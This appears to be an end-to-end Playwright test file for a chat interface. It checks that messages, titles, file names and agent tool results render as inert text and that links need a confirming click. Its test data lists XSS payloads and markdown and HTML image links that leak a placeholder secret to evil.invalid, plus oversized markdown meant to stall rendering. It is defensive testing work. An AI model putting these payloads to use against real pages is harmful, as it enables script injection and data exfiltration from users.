"""Texts that were written to do harm (B-076, B-079, B-080, B-082): no script runs, no request leaves, and one
can go on typing. That no request leaves is what the guard of every page looks at."""

from urllib.parse import quote

import msgspec
import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conversing import answers, box, log
from tests.e2e.server import Person

EVIL = "https://evil.invalid"
SCRIPTS = (
    "<img src=x onerror=\"window.harm='img'\">",
    "<script>window.harm='script'</script>",
    "<svg onload=\"window.harm='svg'\"></svg>",
    "<math><maction actiontype=statusline xlink:href=\"javascript:window.harm='math'\">x</maction></math>",
    "<iframe srcdoc=\"<script>parent.harm='iframe'</script>\"></iframe>",
    f'<base href="{EVIL}/">',
    f'<form action="{EVIL}/"><input name=q autofocus onfocus="window.harm=1"></form>',
    f"<style>* {{ display: none }} body {{ background: url({EVIL}/css) }}</style>",
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "[click](javascript:window.harm='link')",
    "[click](data:text/html,<script>opener.harm='data'</script>)",
    f"![x]({EVIL}/?q=SECRET)",
    f"![x][ref]\n\n[ref]: {EVIL}/?ref=SECRET\n",
    f'<img src="{EVIL}/?html=SECRET">',
    f'<video poster="{EVIL}/?poster=SECRET" src="{EVIL}/v.mp4" autoplay></video>',
    f'<svg><image href="{EVIL}/?svg=SECRET"/></svg>',
    f"{EVIL}/?auto=SECRET",
    f"$\\includegraphics{{{EVIL}/x}}$ and $\\href{{javascript:window.harm=1}}{{x}}$",
)
ALL = "\n\n".join(SCRIPTS)


def indented(text: str) -> str:
    return text.replace("\n", "\n  ")


def unharmed(page: Page) -> None:
    assert page.evaluate("window.harm") is None
    assert page.evaluate("document.baseURI").startswith(page.evaluate("location.origin"))
    own = "main :is(img, script, iframe, style, base, form:not([class]), meta, link, video, object, embed)"
    assert page.locator(own).count() == 0


@pytest.mark.parametrize("text", SCRIPTS)
def test_in_an_answer_it_is_only_text(page: Page, person: Person, text: str) -> None:
    chat = person.finished_chat(f"say: before\n\n  {indented(text)}\n\n  after it")
    page.goto(f"/chats/{chat['id']}")
    expect(answers(page).last).to_contain_text("after it")
    unharmed(page)
    for link in answers(page).locator("a").all():
        assert (link.get_attribute("href") or "").startswith("https://")
        assert "noreferrer" in (link.get_attribute("rel") or "")


def test_in_titles_names_results_and_errors_it_is_only_text(page: Page, person: Person) -> None:
    """A title, a message, the name of a file and its content, a tool's answer, a sub-agent's label."""
    name = "<img src=x onerror=window.harm=1>.md"
    content = msgspec.json.encode({"path": name, "content": ALL}).decode()
    label = msgspec.json.encode({"label": SCRIPTS[0], "prompt": f"say: {SCRIPTS[1]}"}).decode()
    script = (
        f"call: write_file {content}\n"
        f"call: read_file {msgspec.json.encode({'path': name}).decode()}\n"
        "call: list\n"
        f"call: execute {msgspec.json.encode({'command': f'echo {quote(SCRIPTS[0])}'}).decode()}\n"
        f"call: nonsense {msgspec.json.encode({'x': ALL}).decode()}\n"
        f"call: spawn_agent {label}\ncall: wait_agents\nsay: done with it"
    )
    chat = person.finished_chat(script, title=SCRIPTS[0][:80])
    page.goto(f"/chats/{chat['id']}")
    expect(answers(page).last).to_contain_text("done with it")
    page.get_by_role("button", name="earlier steps").click()
    calls = page.get_by_test_id("call")
    expect(calls).to_have_count(7)
    for number in range(7):
        calls.nth(number).get_by_role("button").first.click()
    expect(log(page).get_by_text(name).first).to_be_attached()
    unharmed(page)


def test_a_link_is_followed_only_by_a_click_that_saw_where_it_leads(page: Page, person: Person) -> None:
    chat = person.finished_chat(f"say: [your bank]({EVIL}/?q=SECRET) and {EVIL}/?plain=SECRET")
    page.goto(f"/chats/{chat['id']}")
    hidden = answers(page).get_by_role("link", name="your bank")
    plain = answers(page).get_by_role("link", name=f"{EVIL}/?plain=SECRET")
    expect(plain).to_be_visible()
    for link in (hidden, plain):
        expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
        expect(link).to_have_attribute("target", "_blank")
    hidden.click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text(f"{EVIL}/?q=SECRET")
    dialog.get_by_role("button", name="Cancel").click()
    assert len(page.context.pages) == 1


LARGE = {
    "one line of a megabyte": "x" * 1_000_000,
    "a table of 100 000 rows": "|a|b|\n|-|-|\n" + "|1|2|\n" * 100_000,
    "500 levels of quotes": "> " * 500 + "deep",
    "500 levels of lists": "\n".join("  " * level + "- x" for level in range(500)),
    "emphasis without end": "*a_" * 20_000,
    "brackets without end": "[" * 50_000,
    "code without end": "```\n" + "x = 1\n" * 50_000,
}


@pytest.mark.parametrize("name", LARGE)
def test_one_can_go_on_typing_beside_it(page: Page, person: Person, name: str) -> None:
    chat = person.finished_chat(f"say: {indented(LARGE[name])}")
    page.goto(f"/chats/{chat['id']}")
    expect(answers(page).last).to_be_attached()
    box(page).click()
    # Each letter arrives, and what was typed is drawn, while the text beside it is there in full.
    page.keyboard.type("still here")
    expect(box(page)).to_have_value("still here")
    log(page).evaluate("element => { element.scrollTop = 0 }")
    page.keyboard.type(" and now")
    expect(box(page)).to_have_value("still here and now")
    nodes = page.evaluate("document.querySelectorAll('main *').length")
    assert nodes < 20_000, "what is not seen is not drawn"
